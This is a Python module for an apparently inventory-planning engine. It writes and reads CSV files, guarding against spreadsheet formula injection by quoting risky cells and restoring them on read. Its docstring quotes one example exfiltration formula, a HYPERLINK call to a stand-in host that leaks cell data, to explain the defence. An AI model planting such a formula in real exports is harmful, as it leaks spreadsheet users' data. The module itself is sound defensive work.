"""The one way the engine turns tables into CSV text, and reads its own CSV files back.

Nothing a user writes becomes a spreadsheet formula. SKU ids, class, mode and variant names, scenario
names and descriptions, and error messages quoting them reach plan.csv, audit.csv, frontier.csv,
compare.csv and batch.csv. A spreadsheet (Excel, LibreOffice Calc, Google Sheets) evaluates a cell
whose text starts with `=`, `+`, `-` or `@` (and, on some of them, TAB, CR, LF or the full-width forms
＝ ＋ － ＠) as a formula: `=HYPERLINK("http://evil.example/?"&A1, "click")` sends the sheet's data
away when clicked. Such ids are not refused (`-123` or `+A` may be real part numbers; a message
cannot be refused), so they are NEUTRALISED ON WRITE, as the OWASP "CSV Injection" guidance says:

- a STRING cell is neutralised when its first character, or its first character after leading
  whitespace, is one of TRIGGERS (= + - @ TAB CR LF NUL ＝ ＋ － ＠): it is written with a single quote
  `'` in front (`=1+2` -> `'=1+2`, `-123` -> `'-123`, ` @x` -> `' @x`);
- so that reading back is exact, a string that already looks neutralised (one or more `'` followed
  by such a text) gets one more `'` (`'=x` -> `''=x`); every other string is written as it is;
- numbers are never changed: a negative number in a numeric column stays `-20` (only strings are
  neutralised);
- every cell is then quoted as RFC 4180 says (double quotes around a cell holding a comma, a double
  quote or a line break; a double quote inside doubled), by Python's csv module;
- enums are written by their value (`optimal`, never `SolveStatus.optimal`).

`restore` undoes `neutralise` exactly (restore(neutralise(s)) == s for every string s), and
`read_csv` applies it to every text cell, so what the engine reads back (compare reusing a finished
run) is what it wrote.

Every CSV writer of the engine goes through `csv_text` (a table) or `rows_text` (rows of plain values),
and both through `cell`: a new writer that uses them cannot forget.
"""

from __future__ import annotations

import enum
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import numpy as np
import pandas as pd

TRIGGERS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")  # = + - @ TAB CR LF NUL and full-width ＝ ＋ － ＠
QUOTE = "'"
FLOAT_FORMAT = "%.10g"  # fixed: same numbers -> same bytes, whatever the platform or engine
ROWS_PER_BLOCK = 1024  # rows formatted at a time by csv_text (bounds its memory, not its output)
BOOLS = ("True", "False")  # how plan/frontier/audit write booleans (pandas' words); batch.csv uses true/false


def dangerous(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula: its first character, or its first
    character after leading whitespace, is one of TRIGGERS."""
    if not text:
        return False
    if text[0] in TRIGGERS:
        return True
    if text[0].isspace():
        rest = text.lstrip()
        return bool(rest) and rest[0] in TRIGGERS
    return False


def _looks_neutralised(text: str) -> bool:
    return text.startswith(QUOTE) and dangerous(text.lstrip(QUOTE))


def neutralise(text: str) -> str:
    """`text` as a cell a spreadsheet shows as text: `'` in front when it is dangerous (or already
    looks neutralised, so that `restore` is exact); otherwise unchanged."""
    if text and (dangerous(text) or _looks_neutralised(text)):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """The text `neutralise` was given: one leading `'` removed from a neutralised cell."""
    if _looks_neutralised(text):
        return text[1:]
    return text


class _Neutralised(str):
    """A cell text `neutralise` changed: always written inside double quotes."""


def cell(value: Any, bools: tuple[str, str] = BOOLS) -> str:
    """One cell's text: a string neutralised, an enum by its (neutralised) value, a bool as
    bools[0] / bools[1], a float with FLOAT_FORMAT (-0.0 as 0, NaN as an empty cell), an integer as
    itself, None / NA as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, enum.Enum):
        value = value.value
    if isinstance(value, str):  # numpy.str_ too
        text = str(value)
        out = neutralise(text)
        return _Neutralised(out) if out != text else out
    if isinstance(value, (bool, np.bool_)):
        return bools[0] if value else bools[1]
    if isinstance(value, (float, np.floating)):
        return "" if value != value else FLOAT_FORMAT % (float(value) + 0.0)
    if isinstance(value, (int, np.integer)):
        return str(int(value))
    try:
        if pd.isna(value):
            return ""
    except (TypeError, ValueError):
        pass
    return cell(str(value), bools)


def field(text: str) -> str:
    """A cell text quoted as RFC 4180 says: inside double quotes (a double quote in it doubled)
    when it holds a comma, a double quote, CR or LF, and always when it was neutralised."""
    if isinstance(text, _Neutralised) or any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def _fields(series: pd.Series, bools: tuple[str, str]) -> list[str]:
    """A column's cells as CSV fields (`field(cell(v))`). Numbers and booleans never need quoting
    (FLOAT_FORMAT and integers write no comma, quote or line break), so only text goes through `field`:
    the same bytes, without a per-cell test on most of a table."""
    kind = series.dtype.kind
    if kind == "f":
        values = series.to_numpy(dtype=float, na_value=np.nan) + 0.0  # -0.0 -> 0
        out = list(map(FLOAT_FORMAT.__mod__, values.tolist()))
        for i in np.flatnonzero(np.isnan(values)).tolist():
            out[i] = ""
        return out
    if kind in "iu":
        return [str(v) for v in series.to_numpy().tolist()]
    if kind == "b":
        return [bools[0] if v else bools[1] for v in series.to_numpy().tolist()]
    values = series.to_numpy(dtype=object)
    if kind in "OU" and set(map(type, values)) <= _PLAIN_OR_MISSING:
        present = ~pd.isna(values)
        if set(map(type, values[present])) <= _PLAIN_TYPES:  # text; a missing cell (None, NaN) is empty
            out = [""] * len(values)
            for i, text in zip(np.flatnonzero(present).tolist(), _text_fields(values[present], bools)):
                out[i] = text
            return out
    return [field(cell(v, bools)) for v in values.tolist()]


_PLAIN_TYPES = frozenset((str, np.str_))
_PLAIN_OR_MISSING = _PLAIN_TYPES | {type(None), float}
_QUOTING = np.array([ord(ch) for ch in ',"\r\n'], dtype=np.uint32)


def _text_fields(values: np.ndarray, bools: tuple[str, str]) -> list[str]:
    """`field(cell(v))` for a column of plain strings, with the per-cell rules applied only where they
    can change something. A string whose first character is an ASCII letter or digit is never
    neutralised, and one without a comma, a double quote, CR or LF is never quoted: those are written
    as they are, found by one pass over the column's code points; the rest go through `cell`/`field`.
    (SKU ids, classes and modes are mostly such strings; benchmarks/csv_write.py times csv_text on a
    finished run's tables.)"""
    # Fixed-width UTF-32: code points as a (cells, width) array. NumPy drops trailing NULs, which can
    # neither make a cell dangerous (only a first character can) nor need quoting.
    points = values.astype(str)  # at least one character wide, even when every cell is empty
    points = points.view(np.uint32).reshape(len(values), points.dtype.itemsize // 4)
    first = points[:, 0]
    alnum_first = ((first >= 48) & (first <= 57)) | ((first >= 65) & (first <= 90)) | ((first >= 97) & (first <= 122))
    plain = alnum_first & ~np.isin(points, _QUOTING).any(axis=1)
    out = [str(v) for v in values.tolist()]
    for i in np.flatnonzero(~plain).tolist():
        out[i] = field(cell(out[i], bools))
    return out


def csv_text(table: pd.DataFrame, bools: tuple[str, str] = BOOLS) -> str:
    """A table as CSV text, every cell through `cell` (strings neutralised, floats with FLOAT_FORMAT,
    -0.0 written as 0, empty cells for missing values) and `field` (RFC 4180 quoting); no index,
    `\\n` line ends, no timestamp: the same table always gives the same bytes."""
    parts = [_line([cell(c, bools) for c in table.columns])]
    # A block of rows at a time: every cell of a large table as a Python string at once is a string
    # object per cell, many times the table's own size.
    for start in range(0, len(table), ROWS_PER_BLOCK):
        block = table.iloc[start:start + ROWS_PER_BLOCK]
        columns = [_fields(block.iloc[:, i], bools) for i in range(block.shape[1])]
        if len(columns) == 1:  # a lone empty cell is written "" (an empty line is skipped by readers)
            parts.append("".join('""\n' if f == "" else f + "\n" for f in columns[0]))
        else:
            parts.append("".join(",".join(row) + "\n" for row in zip(*columns)))
    return "".join(parts)


def _line(cells: Sequence[str]) -> str:
    if len(cells) == 1 and cells[0] == "":
        return '""\n'  # a lone empty cell, not an empty line (which readers skip)
    return ",".join(field(c) for c in cells) + "\n"


def rows_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]], bools: tuple[str, str] = BOOLS) -> str:
    """Rows (mappings column -> plain value; a missing key is an empty cell) as CSV text, every cell
    through `cell` and `field`, whatever its type: for tables built row by row, such as batch.csv."""
    lines = [_line([cell(c, bools) for c in columns])]
    lines += [_line([cell(row.get(c), bools) for c in columns]) for row in rows]
    return "".join(lines)


# Columns of the engine's files that hold names, never numbers: read as text, so that a SKU id `007`,
# a class `1` or a mode `2024` comes back as that string.
TEXT_COLUMNS = (
    "sku", "class", "family", "mode", "note", "status", "method", "current_family", "current_mode",
    "recommended_family", "recommended_mode", "demand_source", "demand_model", "demand_pattern", "demand_reason",
    "scenario", "file", "folder", "message", "scenario_hash", "currency", "metric", "service_metric", "solver_status",
    "tier",
)


def read_csv(path, text_columns: Sequence[str] = TEXT_COLUMNS, **kwargs) -> pd.DataFrame:
    """A CSV file the engine wrote, read back as it was written: `text_columns` kept as text (an id
    `007`, `NA` or `-12` stays that string), only empty cells missing, and every text cell restored
    (`'=x` -> `=x`). Other keyword arguments go to pandas.read_csv."""
    kwargs.setdefault("keep_default_na", False)
    kwargs.setdefault("na_values", [""])
    table = pd.read_csv(path, dtype={c: str for c in text_columns}, **kwargs)
    table.columns = [restore(c) for c in table.columns]
    for i in range(table.shape[1]):
        col = table.iloc[:, i]
        if col.dtype.kind not in "biufcmM":  # text (object or pandas' string dtype)
            table.isetitem(i, col.map(lambda v: restore(v) if isinstance(v, str) else v).astype(col.dtype))
    return table
